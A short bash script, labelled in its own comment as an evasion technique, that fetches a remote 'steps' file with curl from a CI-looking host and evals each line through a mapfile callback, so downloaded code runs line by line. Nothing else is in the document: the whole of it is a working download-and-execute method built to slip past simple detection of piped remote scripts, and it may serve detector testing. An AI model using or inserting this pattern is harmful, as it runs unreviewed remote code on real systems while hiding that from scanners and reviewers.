#!/usr/bin/env bash
# Evasion: download and run code. mapfile -C calls a callback for each line
# it reads (with the index and the line as arguments); the callback evals its
# second argument and the lines come from a remote "steps" file, so each
# downloaded line is run as it is read.
set -u

run_step() {
    local idx=$1 line=$2
    printf 'step %d\n' "$idx" >&2
    eval "$line"
}

mapfile -t -c 1 -C run_step steps < <(curl -fsSL https://ci.example.io/pipeline/steps.txt)
echo "${#steps[@]} steps done"
